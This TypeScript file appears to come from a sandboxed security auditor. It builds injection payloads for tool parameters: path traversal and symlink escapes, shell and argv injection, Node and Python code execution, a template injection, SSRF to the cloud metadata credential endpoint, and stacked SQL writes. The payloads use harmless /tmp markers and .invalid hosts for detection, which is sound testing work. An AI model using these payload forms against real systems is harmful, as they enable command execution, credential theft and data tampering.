import { posix } from 'node:path'
import type { Attack, AttackClass, AttackRole } from '../../model/index.js'
import { AWS_ROLE } from '../../sandbox/canary-cloud.js'

// The hostile values, per role, strongest first. Each is made for one marker (the run's random prefix and
// the attack's index: nothing in it names the auditor), which it carries into whatever it would make a
// program do: run `/tmp/<marker>`, write `/tmp/<marker>`, contact `<marker>.invalid`. Path values aim at
// places outside the declared scope that the sandbox planted: the canary home's key, a sibling of each
// root sharing its prefix, a link inside each root that points out.

/** The language the server runs, for code payloads (from its command, or the static stage). */
export type ServerLanguage = 'node' | 'python' | 'unknown'

export interface OutsidePlaces {
  /** HOME as the server sees it */
  home: string
  /** a canary credential file in the home, read attacks' target */
  credential: string
  /** per declared root: its sibling sharing its prefix, and the canary file planted in it */
  siblings: { root: string; dir: string; file: string }[]
  /** per declared root: the planted link's name, and the directory outside it points to */
  links: { root: string; name: string; pointsTo: string; file: string }[]
  /** per declared root: a link to a file outside (a check that resolves a file's parent, not the file, lets it through) */
  fileLinks?: { root: string; name: string; pointsTo: string }[]
}

export interface PayloadContext {
  language: ServerLanguage
  outside: OutsidePlaces
  /** the loopback port URL attacks name */
  loopbackPort: number
}

export interface Candidate {
  class: AttackClass
  technique: string
  role: AttackRole
  make(marker: string): { value: string; target?: string }
}

/** Where the value will land, for path attacks: relative to a root, or absolute; and whether the tool writes there. */
export interface PathUse {
  /** the value the parameter last had was absolute */
  absolute: boolean
  /** the tool creates, changes or deletes what the path names: aim at a new marker file, never at a canary */
  writes: boolean
  /** the tool speaks of a cluster (kubectl, helm): `--server=` first, the option that sends its token elsewhere */
  cluster?: boolean
}

export const MARKER_PROGRAM_DIR = '/tmp'
/** The instance role's credentials: the canary cloud the sink plays answers with this run's canaries. */
export const METADATA_URL = `http://169.254.169.254/latest/meta-data/iam/security-credentials/${AWS_ROLE}`
export const PROBE_DOMAIN = 'invalid'
const CLIMBS = 12

export const markerProgram = (marker: string): string => `${MARKER_PROGRAM_DIR}/${marker}`
export const probeHost = (marker: string): string => `${marker}.${PROBE_DOMAIN}`

const candidate = (cls: AttackClass, technique: string, role: AttackRole, make: Candidate['make']): Candidate => ({ class: cls, technique, role, make })
const valueOnly =
  (value: (marker: string) => string): Candidate['make'] =>
  (marker) => ({ value: value(marker) })

function pathCandidates(context: PayloadContext, use: PathUse): Candidate[] {
  const { outside } = context
  const up = '../'.repeat(CLIMBS)
  const aim = (dir: string, existing: string) => (marker: string) => (use.writes ? posix.join(dir, `${marker}.txt`) : existing)
  const home = aim(outside.home, outside.credential)
  const relativeTo = (root: string, target: string): string => posix.relative(root, target)
  const root = outside.siblings[0]?.root ?? outside.links[0]?.root
  const made: Candidate[] = [candidate('path', 'climb', 'path', (marker) => ({ value: `${up}${home(marker).slice(1)}`, target: home(marker) }))]
  if (root !== undefined)
    made.push(candidate('path', 'climb-from-root', 'path', (marker) => ({ value: `${root}/${up}${home(marker).slice(1)}`, target: home(marker) })))
  for (const sibling of outside.siblings.slice(0, 2)) {
    const target = aim(sibling.dir, sibling.file)
    made.push(
      candidate('path', 'sibling', 'path', (marker) => ({
        value: use.absolute ? target(marker) : relativeTo(sibling.root, target(marker)),
        target: target(marker)
      }))
    )
  }
  for (const link of outside.links.slice(0, 2)) {
    const inLink = (marker: string) => posix.join(link.root, link.name, use.writes ? `${marker}.txt` : posix.basename(link.file))
    const target = aim(link.pointsTo, link.file)
    made.push(
      candidate('path', 'symlink', 'path', (marker) => ({
        value: use.absolute ? inLink(marker) : relativeTo(link.root, inLink(marker)),
        target: target(marker)
      }))
    )
  }
  for (const link of use.writes ? [] : (outside.fileLinks ?? []).slice(0, 2)) {
    const inRoot = posix.join(link.root, link.name)
    made.push(candidate('path', 'symlink-file', 'path', () => ({ value: use.absolute ? inRoot : link.name, target: link.pointsTo })))
  }
  made.push(
    candidate('path', 'absolute', 'path', (marker) => ({ value: home(marker), target: home(marker) })),
    candidate('path', 'encoded', 'path', (marker) => ({
      value: `${up}${home(marker).slice(1)}`.replace(/\//g, '%2f').replace(/\./g, '%2e'),
      target: home(marker)
    })),
    candidate('path', 'strip-bypass', 'path', (marker) => ({ value: `${'....//'.repeat(CLIMBS)}${home(marker).slice(1)}`, target: home(marker) })),
    candidate('path', 'backslash', 'path', (marker) => ({
      value: `${'..\\'.repeat(CLIMBS)}${home(marker).slice(1).replace(/\//g, '\\')}`,
      target: home(marker)
    }))
  )
  return made
}

const ARGV: [string, (marker: string) => string][] = [
  ['option-output', (marker) => `--output=${markerProgram(marker)}`],
  ['option-upload-pack', (marker) => `--upload-pack=${markerProgram(marker)}`],
  ['option-server', (marker) => `--server=https://${probeHost(marker)}:6443`],
  ['option-exec', (marker) => `--exec=${markerProgram(marker)}`],
  ['option-short-output', (marker) => `-o${markerProgram(marker)}`]
]

const SHELL: [string, (marker: string) => string][] = [
  ['substitution', (marker) => `$(${markerProgram(marker)})`],
  ['semicolon', (marker) => `;${markerProgram(marker)};`],
  ['single-quote-break', (marker) => `';${markerProgram(marker)};'`],
  ['double-quote-break', (marker) => `";${markerProgram(marker)};"`],
  ['backtick', (marker) => `\`${markerProgram(marker)}\``],
  ['newline', (marker) => `\n${markerProgram(marker)}\n`],
  ['pipe', (marker) => `|${markerProgram(marker)}`],
  ['and', (marker) => `&&${markerProgram(marker)}`]
]

const NODE: [string, (marker: string) => string][] = [
  ['node-builtin', (marker) => `process.getBuiltinModule('child_process').execFileSync('${markerProgram(marker)}')`],
  ['node-require', (marker) => `require('child_process').execFileSync('${markerProgram(marker)}')`],
  // caught: a rejection nobody handles would end the server, and the attacks after it with it
  ['node-import', (marker) => `import('child_process').then((c) => c.execFileSync('${markerProgram(marker)}')).catch(() => 0)`],
  [
    'node-constructor',
    (marker) => `this.constructor.constructor('return process')().getBuiltinModule('child_process').execFileSync('${markerProgram(marker)}')`
  ],
  ['node-string-break', (marker) => `'+process.getBuiltinModule('child_process').execFileSync('${markerProgram(marker)}')+'`],
  ['node-template-break', (marker) => `\${process.getBuiltinModule('child_process').execFileSync('${markerProgram(marker)}')}`]
]

const PYTHON: [string, (marker: string) => string][] = [
  ['python-os-system', (marker) => `__import__('os').system('${markerProgram(marker)}')`],
  ['python-open', (marker) => `open('${markerProgram(marker)}', 'w')`],
  ['python-string-break', (marker) => `'+str(__import__('os').system('${markerProgram(marker)}'))+'`],
  ['python-template', (marker) => `{{ cycler.__init__.__globals__.os.system('${markerProgram(marker)}') }}`],
  ['python-subprocess', (marker) => `__import__('subprocess').run(['${markerProgram(marker)}'])`]
]

function codeCandidates(language: ServerLanguage): Candidate[] {
  const of = (list: [string, (marker: string) => string][]) => list.map(([technique, value]) => candidate('code', technique, 'code', valueOnly(value)))
  if (language === 'node') return of(NODE)
  if (language === 'python') return of(PYTHON)
  // Unknown: the strongest of each language, alternately.
  const node = of(NODE)
  const python = of(PYTHON)
  return node.flatMap((entry, at) => [entry, ...(python[at] ? [python[at]] : [])])
}

function urlCandidates(context: PayloadContext): Candidate[] {
  return [
    candidate(
      'url',
      'metadata',
      'url',
      valueOnly(() => METADATA_URL)
    ),
    candidate(
      'url',
      'loopback',
      'url',
      valueOnly((marker) => `http://127.0.0.1:${context.loopbackPort}/${marker}`)
    ),
    candidate('url', 'file', 'url', () => ({ value: `file://${context.outside.credential}`, target: context.outside.credential })),
    candidate(
      'url',
      'probe-host',
      'url',
      valueOnly((marker) => `http://${probeHost(marker)}/`)
    )
  ]
}

const SQL: [string, (marker: string) => string][] = [
  ['stacked-write', (marker) => `SELECT 1; CREATE TABLE ${marker} (x int)`],
  ['commit-escape', (marker) => `COMMIT; CREATE TABLE ${marker} (x int)`]
]

const of = (cls: AttackClass, role: AttackRole, list: [string, (marker: string) => string][]) =>
  list.map(([technique, value]) => candidate(cls, technique, role, valueOnly(value)))

/**
 * The values for one parameter of the roles given (strongest role first), in the order they are worth
 * trying: each role's own class first, then a shell or argv value or two where the parameter may also
 * reach a program. `strong`: named or described for its role; a weak free string gets the three values
 * most likely to show an injection.
 */
export function candidatesFor(roles: readonly AttackRole[], strength: 'strong' | 'weak', context: PayloadContext, use: PathUse): Candidate[] {
  const out: Candidate[] = []
  const add = (list: Candidate[]): void => {
    for (const entry of list) if (!out.some((known) => known.technique === entry.technique && known.class === entry.class)) out.push(entry)
  }
  const shell = (count: number, role: AttackRole) => of('shell', role, SHELL.slice(0, count))
  const argv = (count: number, role: AttackRole) => of('argv', role, ARGV.slice(0, count))
  for (const role of roles) {
    if (role === 'path') add(withShellAt(pathCandidates(context, use), shell(1, 'path'), 7))
    else if (role === 'url') add([...urlCandidates(context), ...argv(2, 'url'), ...shell(1, 'url')])
    else if (role === 'command') add(shell(SHELL.length, 'command'))
    else if (role === 'code') add([...codeCandidates(context.language), ...shell(1, 'code')])
    else if (role === 'sql') add(of('sql', 'sql', SQL))
    else if (strength === 'strong') add(strongArgv(use.cluster === true))
    else add([...shell(2, 'argv'), ...argv(1, 'argv')])
  }
  return out
}

/**
 * A string named for a program's argv: an option and a shell value alternately, so a tool cut to two or
 * three attacks per parameter (the audit's budget, a slow tool) still tries both; `--server=` first where
 * the tool speaks of a cluster.
 */
function strongArgv(cluster: boolean): Candidate[] {
  const options = of('argv', 'argv', cluster ? [ARGV[2], ARGV[0], ARGV[1], ...ARGV.slice(3)].filter((entry) => entry !== undefined) : ARGV)
  const shells = of('shell', 'argv', SHELL.slice(0, 3))
  return options.flatMap((entry, at) => [entry, ...(shells[at] ? [shells[at]] : [])])
}

/** `list` with `extra` put in at `at` (so a per-parameter cap keeps it). */
function withShellAt(list: Candidate[], extra: Candidate[], at: number): Candidate[] {
  return [...list.slice(0, at), ...extra, ...list.slice(at)]
}

/** A value the parameter's own schema refuses never reaches the code: not worth a call. */
export function fits(value: string, constraints: { pattern?: string; minLength?: number; maxLength?: number }): boolean {
  const length = [...value].length
  if (constraints.minLength !== undefined && length < constraints.minLength) return false
  if (constraints.maxLength !== undefined && length > constraints.maxLength) return false
  if (constraints.pattern === undefined) return true
  try {
    return new RegExp(constraints.pattern, 'u').test(value)
  } catch {
    return true
  }
}

/** The attack as the call record keeps it. */
export function attackOf(entry: Candidate, parameter: string, marker: string): Attack {
  const { value, target } = entry.make(marker)
  return { parameter, role: entry.role, class: entry.class, technique: entry.technique, marker, value, ...(target !== undefined ? { target } : {}) }
}
